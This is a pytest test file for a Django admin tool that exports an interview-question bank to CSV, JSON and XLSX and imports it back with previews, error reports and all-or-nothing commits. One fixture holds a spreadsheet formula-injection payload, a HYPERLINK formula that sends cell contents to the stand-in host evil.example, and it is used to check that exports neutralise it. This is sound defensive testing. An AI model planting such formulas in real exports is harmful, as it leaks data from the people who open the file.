"""Export the bank to CSV, JSON and XLSX and import it back: preview, errors, all or nothing."""

import csv
import io
import json
import os
import tempfile

import openpyxl
import pytest
import tablib
from django.contrib.auth.models import Group, Permission
from django.core.files.uploadedfile import SimpleUploadedFile

from questions.bank import rules
from questions.curation.importing import import_rows
from questions.models import Competency, ImportUpload, Question
from tests.helpers import make_user

pytestmark = pytest.mark.django_db

FORMATS = {"csv": "0", "json": "1", "xlsx": "2"}
HEADERS = [
    "slug",
    "text",
    "guidance",
    "competency",
    "roles",
    "question_type",
    "level",
    "minutes",
    "is_active",
]


def export(client, fmt: str, query: str = "") -> bytes:
    response = client.post(
        f"/admin/questions/question/export/{query}", {"format": FORMATS[fmt], "resource": "0"}
    )
    assert response.status_code == 200, response.content[:500]
    assert f".{fmt}" in response["Content-Disposition"]
    return response.content


def preview(client, content: bytes, fmt: str = "csv", name: str = "bank"):
    upload = SimpleUploadedFile(f"{name}.{fmt}", content)
    response = client.post(
        "/admin/questions/question/import/",
        {"format": FORMATS[fmt], "resource": "0", "import_file": upload},
    )
    assert response.status_code == 200
    return response


def confirm(client, response):
    form = response.context["confirm_form"]
    data = {name: form.initial.get(name, "") for name in form.fields}
    return client.post("/admin/questions/question/process_import/", data, follow=True)


def csv_rows(content: bytes) -> list[dict]:
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def csv_bytes(rows: list[dict], headers: list[str] = HEADERS) -> bytes:
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=headers)
    writer.writeheader()
    writer.writerows(rows)
    return out.getvalue().encode("utf-8")


def snapshot() -> list[tuple]:
    return list(
        Question.objects.order_by("id").values_list(
            "slug", "text", "guidance", "competency__slug", "minutes", "is_active", "updated_at"
        )
    )


@pytest.mark.parametrize("fmt", ["csv", "json", "xlsx"])
def test_exporting_the_seed_bank_and_importing_it_back_changes_nothing(
    seed_bank, editor_client, fmt
):
    before = snapshot()
    versions = Question.history.count()
    content = export(editor_client, fmt)

    response = preview(editor_client, content, fmt)
    report = response.context["report"]
    assert report.counts == {"new": 0, "changed": 0, "unchanged": 60, "error": 0}
    assert "confirm_form" in response.context

    response = confirm(editor_client, response)
    assert "0 new, 0 changed, 60 unchanged" in response.content.decode()
    assert snapshot() == before
    assert Question.history.count() == versions


def test_the_csv_export_has_every_column_and_readable_values(seed_bank, editor_client):
    content = export(editor_client, "csv")
    assert content.startswith("\ufeff".encode())  # spreadsheet programs then read UTF-8
    rows = csv_rows(content)
    assert list(rows[0]) == HEADERS
    assert len(rows) == 60
    first = rows[0]
    assert first["competency"] == "strategy"
    assert first["roles"] == "e-commerce-operations-manager"
    assert first["minutes"] == "7"
    assert first["is_active"] == "1"
    assert any("’" in row["guidance"] for row in rows)


FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Click")'


@pytest.fixture
def formula_question(seed_bank):
    """A question whose text and guidance a spreadsheet would run as formulas."""
    question = Question.objects.order_by("id").first()
    Question.objects.filter(pk=question.pk).update(text=FORMULA, guidance="+" + FORMULA[1:])
    return question


def test_csv_cells_a_spreadsheet_would_run_are_text_and_import_back_unchanged(
    formula_question, editor_client
):
    content = export(editor_client, "csv")
    [row] = [row for row in csv_rows(content) if row["slug"] == formula_question.slug]
    assert (row["text"], row["guidance"]) == ("'" + FORMULA, "'+" + FORMULA[1:])

    before = snapshot()
    response = preview(editor_client, content, "csv")
    assert response.context["report"].counts["unchanged"] == 60
    confirm(editor_client, response)
    assert snapshot() == before


def test_xlsx_cells_a_spreadsheet_would_run_are_text_and_import_back_unchanged(
    formula_question, editor_client
):
    content = export(editor_client, "xlsx")
    sheet = openpyxl.load_workbook(io.BytesIO(content)).active
    headers = [cell.value for cell in sheet[1]]
    [cell] = [
        row[headers.index("text")]
        for row in sheet.iter_rows(min_row=2)
        if row[headers.index("slug")].value == formula_question.slug
    ]
    # The very text, typed as text rather than formula.
    assert (cell.value, cell.data_type) == (FORMULA, "s")

    before = snapshot()
    response = preview(editor_client, content, "xlsx")
    assert response.context["report"].counts["unchanged"] == 60
    confirm(editor_client, response)
    assert snapshot() == before


LEADING = ["'", "'=", "'+1", "''", "=", "+", "-", "@", "\t", "\r"]


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
@pytest.mark.parametrize("start", LEADING, ids=repr)
def test_text_starting_with_an_apostrophe_or_a_formula_sign_comes_back_exactly(
    seed_bank, editor_client, fmt, start
):
    question = Question.objects.order_by("id").first()
    Question.objects.filter(pk=question.pk).update(
        text=start + "How do you plan?", guidance=start + "Look for a plan."
    )
    before = snapshot()
    response = preview(editor_client, export(editor_client, fmt), fmt)
    assert response.context["report"].counts == {
        "new": 0,
        "changed": 0,
        "unchanged": 60,
        "error": 0,
    }
    confirm(editor_client, response)
    assert snapshot() == before


def test_the_json_export_is_a_list_of_rows(seed_bank, editor_client):
    rows = json.loads(export(editor_client, "json"))
    assert len(rows) == 60
    assert set(rows[0]) == set(HEADERS)


def test_the_export_follows_the_changelist_filters(seed_bank, editor_client):
    technical = Competency.objects.get(slug="technical")
    content = export(editor_client, "csv", f"?competency__id__exact={technical.id}")
    rows = csv_rows(content)
    assert len(rows) == 10
    assert {row["competency"] for row in rows} == {"technical"}

    rows = csv_rows(export(editor_client, "csv", "?q=Cyber+Monday"))
    assert len(rows) == 1


def test_the_changelist_links_to_export_with_its_filters(seed_bank, editor_client):
    technical = Competency.objects.get(slug="technical")
    body = editor_client.get(
        f"/admin/questions/question/?competency__id__exact={technical.id}"
    ).content.decode()
    assert f'href="/admin/questions/question/export/?competency__id__exact={technical.id}"' in (
        body
    )
    assert "/admin/questions/question/import/" in body


def test_fixing_three_rows_in_a_spreadsheet_updates_just_those_with_history(
    seed_bank, editor_client, editor
):
    """PRODUCT.md journey 5: export, fix wording, import, preview 3 changed, confirm."""
    rows = csv_rows(export(editor_client, "csv"))
    rows[0]["text"] = rows[0]["text"].replace("significantly impacted", "changed")
    rows[11]["guidance"] += " Strong answers name the first call they made."
    rows[42]["guidance"] = rows[42]["guidance"].replace("data analytics", "customer data")
    changed_slugs = {rows[0]["slug"], rows[11]["slug"], rows[42]["slug"]}

    response = preview(editor_client, csv_bytes(rows))
    report = response.context["report"]
    assert report.counts == {"new": 0, "changed": 3, "unchanged": 57, "error": 0}
    changed = [row for row in report.rows if row.status == "changed"]
    assert [row.number for row in changed] == [1, 12, 43]
    assert [column for column, _ in changed[0].changes] == ["text"]
    body = response.content.decode()
    assert "<del>significantly impacted</del><ins>changed</ins>" in body
    # Nothing is written before confirmation.
    assert not Question.objects.filter(text__contains="changed the business").exists()

    response = confirm(editor_client, response)
    assert "0 new, 3 changed, 57 unchanged" in response.content.decode()
    for slug in changed_slugs:
        latest = Question.objects.get(slug=slug).history.first()
        assert latest.history_type == "~"
        assert latest.history_user == editor
        assert latest.history_change_reason == "Imported from bank.csv"
    question = Question.objects.get(slug=rows[0]["slug"])
    assert "you implemented in your previous role that changed the business" in question.text
    assert Question.history.filter(history_type="~").count() == 3

    page = editor_client.get(f"/admin/questions/question/{question.pk}/history/")
    assert "<del>significantly impacted</del><ins>changed</ins>" in page.content.decode()


def test_a_new_row_with_an_empty_slug_adds_a_question(seed_bank, editor_client):
    row = {
        "slug": "",
        "text": "How would you cut the cost of returns without hurting loyalty?",
        "guidance": "Weighs policy, logistics and customer lifetime value.",
        "competency": "strategy",
        "roles": "e-commerce-operations-manager",
        "question_type": "situational",
        "level": "Senior",
        "minutes": "6",
        "is_active": "1",
    }
    response = preview(editor_client, csv_bytes([row]))
    assert response.context["report"].counts["new"] == 1
    confirm(editor_client, response)
    question = Question.objects.get(text__startswith="How would you cut the cost of returns")
    assert question.slug == "how-would-you-cut-the-cost-of-returns-without-hurting"
    assert question.level == "senior"
    assert question.roles.get().slug == "e-commerce-operations-manager"
    assert question.history.get().history_type == "+"


def test_the_preview_gives_the_same_wording_advice_as_the_admin_form(seed_bank, editor_client):
    row = {
        "slug": "",
        "text": "Do you have children, and who looks after them while you travel?",
        "guidance": "Plans for travel.",
        "competency": "strategy",
        "roles": "",
        "question_type": "situational",
        "level": "Senior",
        "minutes": "6",
        "is_active": "1",
    }
    response = preview(editor_client, csv_bytes([row]))
    [report_row] = response.context["report"].rows
    assert any("family or marital status" in warning for warning in report_row.warnings)
    assert any("yes/no" in warning for warning in report_row.warnings)
    body = response.content.decode()
    assert 'class="import-warnings"' in body and "family or marital status" in body
    # Advice, not an error: the row still imports.
    confirm(editor_client, response)
    assert Question.objects.filter(text__startswith="Do you have children").exists()


def test_a_row_without_a_slug_but_with_known_text_updates_that_question(seed_bank):
    question = Question.objects.get(slug__startswith="how-would-you-go-about-forecasting")
    dataset = tablib.Dataset(headers=["text", "minutes"])
    dataset.append([question.text.upper(), "9"])
    report = import_rows(dataset, commit=True, file_name="minutes.csv")
    assert report.counts["changed"] == 1
    question.refresh_from_db()
    assert question.minutes == 9
    assert question.slug.startswith("how-would-you-go-about-forecasting")


def errors_by_row(response) -> dict[int, list[tuple[str, str]]]:
    report = response.context["report"]
    return {row.number: row.errors for row in report.rows if row.errors}


def test_each_problem_names_its_row_column_and_what_is_wrong(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:8]
    rows[0]["competency"] = "marketing"
    rows[1]["text"] = "  "
    rows[2] = dict(rows[2], slug="new-a", text="How do you plan a warehouse move?")
    rows[3] = dict(rows[3], slug="new-b", text="How do you plan a WAREHOUSE move?")
    rows[4]["minutes"] = "about ten"
    rows[5]["minutes"] = "121"
    rows[6]["roles"] = "e-commerce-operations-manager, astronaut"
    elsewhere = Question.objects.order_by("id")[20]
    rows[7] = dict(rows[7], slug="a-fresh-slug", text=elsewhere.text.upper())  # other case
    before = snapshot()

    response = preview(editor_client, csv_bytes(rows))

    assert "confirm_form" not in response.context
    errors = errors_by_row(response)
    assert errors[1] == [
        (
            "competency",
            "Unknown competency “marketing”. Use one of: strategy, project-management, "
            "data-analysis, technical, customer-service, leadership.",
        )
    ]
    assert errors[2] == [("text", "The question text is empty.")]
    assert errors[4] == [("text", "Same text as row 3 of this file.")]
    assert errors[5] == [("minutes", "Minutes is “about ten”: write a whole number from 1 to 120.")]
    assert errors[6] == [("minutes", "Minutes is 121: it must be from 1 to 120.")]
    assert errors[7] == [("roles", "Unknown role “astronaut”.")]
    assert errors[8][0][0] == "text"
    assert "already in the bank" in errors[8][0][1]
    assert sorted(errors) == [1, 2, 4, 5, 6, 7, 8]
    body = response.content.decode()
    assert "Row 5, column <code>minutes</code>: Minutes is “about ten”" in body
    assert "Nothing will be imported until the file has no errors" in body
    assert snapshot() == before


def test_bad_type_level_and_active_values_are_errors_not_guesses(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:3]
    rows[0]["question_type"] = "trick"
    rows[1]["level"] = ""
    rows[2]["is_active"] = "maybe"
    errors = errors_by_row(preview(editor_client, csv_bytes(rows)))
    assert errors[1] == [
        (
            "question_type",
            "The type is “trick”. Use one of: behavioural, situational, technical, approach.",
        )
    ]
    assert errors[2] == [("level", "The level is empty. Use one of: junior, mid, senior, lead.")]
    assert errors[3] == [("is_active", "Active is “maybe”: write 1 for active or 0 for retired.")]


def test_a_file_with_any_error_writes_nothing_even_when_committed(seed_bank):
    first, second = Question.objects.order_by("id")[:2]
    dataset = tablib.Dataset(headers=["slug", "text", "minutes"])
    dataset.append([first.slug, first.text, "11"])
    dataset.append([second.slug, second.text, "0"])
    report = import_rows(dataset, commit=True, file_name="two.csv")
    assert report.has_errors
    first.refresh_from_db()
    assert first.minutes != 11


def test_a_file_that_stopped_passing_before_confirmation_imports_nothing(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:2]
    rows[0]["guidance"] = "Changed guidance."
    rows[1] = dict(rows[1], slug="parcels", text="A brand new question about parcels?")
    response = preview(editor_client, csv_bytes(rows))
    assert response.context["report"].counts == {
        "new": 1,
        "changed": 1,
        "unchanged": 0,
        "error": 0,
    }
    # Meanwhile someone adds the same question by hand.
    Question.objects.create(
        text="A brand new question about parcels?",
        guidance="g",
        competency=Competency.objects.first(),
    )
    response = confirm(editor_client, response)
    assert "Nothing was imported" in response.content.decode()
    assert not Question.objects.filter(guidance="Changed guidance.").exists()


def test_a_file_with_errors_is_not_kept_on_the_server(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:1]
    rows[0]["minutes"] = "lots"
    response = preview(editor_client, csv_bytes(rows))
    kept = response.context["form"].cleaned_data["import_file"].tmp_storage_name
    assert not ImportUpload.objects.filter(name=kept).exists()

    rows[0]["minutes"] = "5"
    response = preview(editor_client, csv_bytes(rows))
    kept = response.context["confirm_form"].initial["import_file_name"]
    assert ImportUpload.objects.filter(name=kept).exists()
    confirm(editor_client, response)
    assert not ImportUpload.objects.filter(name=kept).exists()


def test_the_previewed_file_is_kept_in_the_database_not_on_the_server(seed_bank, editor_client):
    """Any app server can confirm an import another one previewed."""
    rows = csv_rows(export(editor_client, "csv"))[:1]
    rows[0]["guidance"] = "Guidance changed on one server, confirmed on another."
    response = preview(editor_client, csv_bytes(rows))
    kept = response.context["confirm_form"].initial["import_file_name"]
    assert not os.path.exists(os.path.join(tempfile.gettempdir(), kept))
    assert b"Guidance changed on one server" in bytes(ImportUpload.objects.get(name=kept).data)
    confirm(editor_client, response)
    assert Question.objects.filter(guidance=rows[0]["guidance"]).exists()


def test_confirming_an_import_twice_asks_for_the_file_again(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:1]
    rows[0]["guidance"] = "Changed once."
    response = preview(editor_client, csv_bytes(rows))
    confirm(editor_client, response)
    again = confirm(editor_client, response)
    assert again.status_code == 200
    assert "already imported" in again.content.decode()
    assert "Upload it again" in again.content.decode()


def test_a_csv_that_is_not_utf8_gets_a_clear_message(seed_bank, editor_client):
    rows = csv_rows(export(editor_client, "csv"))[:1]
    rows[0]["guidance"] = "Café culture, naïve résumé."
    content = csv_bytes(rows).decode("utf-8").encode("latin-1")
    response = preview(editor_client, content)
    errors = response.context["form"].errors["import_file"]
    assert errors == [
        "The file is not UTF-8 text. In your spreadsheet program, save it as “CSV UTF-8” "
        "(or choose the XLSX format) and upload it again."
    ]


def test_a_file_without_a_text_column_says_so(seed_bank, editor_client):
    response = preview(editor_client, b"slug,minutes\nanything,5\n")
    report = response.context["report"]
    assert report.file_errors[0].startswith("The file has no “text” column.")
    assert "confirm_form" not in response.context


def test_empty_rows_at_the_end_of_a_spreadsheet_are_ignored(seed_bank, editor_client):
    dataset = tablib.Dataset(headers=HEADERS)
    for row in csv_rows(export(editor_client, "csv"))[:2]:
        dataset.append([row[header] for header in HEADERS])
    dataset.append([None] * len(HEADERS))
    dataset.append([""] * len(HEADERS))
    response = preview(editor_client, dataset.export("xlsx"), "xlsx")
    assert response.context["report"].counts == {
        "new": 0,
        "changed": 0,
        "unchanged": 2,
        "error": 0,
    }


def test_only_question_editors_may_import_and_export(seed_bank, client, django_user_model):
    viewer = make_user(django_user_model, "vera", is_staff=True)
    viewer.user_permissions.add(Permission.objects.get(codename="view_question"))
    client.force_login(viewer)
    assert client.get("/admin/questions/question/").status_code == 200
    assert client.get("/admin/questions/question/import/").status_code == 403
    assert client.get("/admin/questions/question/export/").status_code == 403
    body = client.get("/admin/questions/question/").content.decode()
    assert "/admin/questions/question/import/" not in body


def test_the_editor_group_holds_the_import_and_export_permissions(db):
    codenames = set(
        Group.objects.get(name="Question editor").permissions.values_list("codename", flat=True)
    )
    assert {"import_question", "export_question"} <= codenames


def test_editors_see_the_import_and_export_pages(editor_client):
    assert editor_client.get("/admin/questions/question/import/").status_code == 200
    assert editor_client.get("/admin/questions/question/export/").status_code == 200


def test_people_outside_the_admin_are_sent_to_sign_in(client, recruiter):
    client.force_login(recruiter)
    assert client.get("/admin/questions/question/export/").status_code == 302
    assert client.get("/admin/questions/question/import/").status_code == 302


def test_imports_save_through_the_banks_one_write_path(seed_bank, editor_client, monkeypatch):
    checked = []
    check = rules.question_clean
    monkeypatch.setattr(rules, "question_clean", lambda q: checked.append(q.slug) or check(q))
    rows = csv_rows(export(editor_client, "csv"))
    rows[3]["guidance"] += " Strong answers say what they would measure."
    confirm(editor_client, preview(editor_client, csv_bytes(rows)))
    # Checked when previewed and again when confirmed; no other row was saved.
    assert checked == [rows[3]["slug"]] * 2
